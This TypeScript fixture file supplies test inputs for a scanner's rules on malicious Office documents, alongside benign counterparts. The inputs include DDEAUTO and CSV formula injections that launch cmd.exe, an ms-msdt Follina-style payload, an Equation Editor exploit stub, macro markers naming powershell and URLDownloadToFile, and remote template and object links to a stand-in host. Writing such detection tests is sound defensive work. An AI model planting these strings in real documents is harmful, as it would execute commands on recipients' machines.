import { type Samples, ole } from './samples.ts';

const equationClass = Buffer.from('02ce020000000000c000000000000046', 'hex');
const equationHeader = Buffer.from(`1c0000000200aaaa10000000${'00'.repeat(16)}030101030a`, 'hex');
const macroSheet = (hidden: number, type: number) =>
  Buffer.from([0x85, 0, 14, 0, 1, 2, 3, 4, hidden, type, 6, 0, ...Buffer.from('Macro1')]);
const relation = (kind: string, target: string) =>
  `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/></Relationships>`;

export const office: Samples = {
  rules: {
    Ole_Macro_Runs_On_Open: [
      ole({ wide: '_VBA_PROJECT' }, 'Document_Open', 'powershell'),
      ole({ wide: '_VBA_PROJECT' }, 'Auto_Open', 'WScript.Shell'),
      ole({ wide: '_VBA_PROJECT' }, { wide: 'Workbook_Open' }, 'URLDownloadToFile'),
    ],
    Ole_Hidden_Macro_Sheet: [ole({ wide: 'Workbook' }, macroSheet(2, 1)), ole({ wide: 'Workbook' }, macroSheet(1, 1))],
    Ole_Carries_Program: [ole({ wide: '\x01Ole10Native' }, 'C:\\Users\\a\\invoice.pdf.js\0')],
    Office_Dde_Command: [
      '<?xml version="1.0"?><w:document><w:instrText> DDEAUTO c:\\windows\\system32\\cmd.exe "/k x"</w:instrText>',
      ole('\x13DDEAUTO mshta x'),
    ],
    Spreadsheet_Text_Dde_Command: ["a,b\r\n=cmd|'/c calc'!A1,2\r\n", 'ID;PSCALC3\r\nC;X1;Y1;K0;EEXEC("calc")\r\n'],
    Ooxml_Template_From_Web: [relation('attachedTemplate', 'https://a.example.test/b.dotm')],
    Ooxml_Object_From_Web: [
      relation('oleObject', 'https://a.example.test/b.html!'),
      relation('oleObject', 'mhtml:https://a.example.test/b!x-usc:https://a.example.test/b'),
    ],
    Ooxml_Macro_Sheet_Calls_Out: [
      '<?xml version="1.0"?><xm:macrosheet xmlns:xm="x"><f>EXEC("calc")</f></xm:macrosheet>',
    ],
    Ooxml_Macro_Sheet: ['<?xml version="1.0"?><xm:macrosheet xmlns:xm="x"></xm:macrosheet>'],
    Web_Query_File: ['WEB\r\n1\r\nhttps://a.example.test/b\r\n'],
    Ms_Msdt_Exploit: [
      '<script>location = "ms-msdt:/id PCWDiagnostic /skip force /param \\"IT_BrowseForFile=x\\""</script>',
    ],
    Moniker_Link: ['<a href="file:///\\\\192.0.2.7\\a\\b.rtf!x">here</a>'],
    Mime_Document_With_Macros: ['MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\nQWN0aXZlTWltZQAAAfA='],
    Old_Equation_Object: [ole({ wide: 'Equation Native' }), ole(equationClass)],
    Equation_Exploit: [ole(equationClass, equationHeader, 'cmd.exe /c start x')],
  },
  honest: {
    'a workbook with a visible macro-free sheet': ole({ wide: 'Workbook' }, macroSheet(0, 0)),
    'a workbook with a hidden ordinary sheet': ole({ wide: 'Workbook' }, macroSheet(2, 0)),
    'a document with a macro to print': ole({ wide: '_VBA_PROJECT' }, 'Document_Open', 'ActiveDocument.PrintOut'),
    'a document with an embedded picture': ole({ wide: '\x01Ole10Native' }, 'C:\\Users\\a\\picture.png\0'),
    'a document with a local template': relation('attachedTemplate', 'file:///C:\\Templates\\letter.dotx'),
    'a document with a link': relation('hyperlink', 'https://www.example.test/wow!'),
    'a document about DDE': '<?xml version="1.0"?><w:document><w:t>DDE is an old protocol.</w:t></w:document>',
    'a table with formulas': 'a,b\r\n=A1+B1,"cmd | other"\r\n-5,+3\r\n',
    'a symbolic link table': 'ID;PWXL;N;E\r\nC;Y1;X1;K"a"\r\n',
  },
};
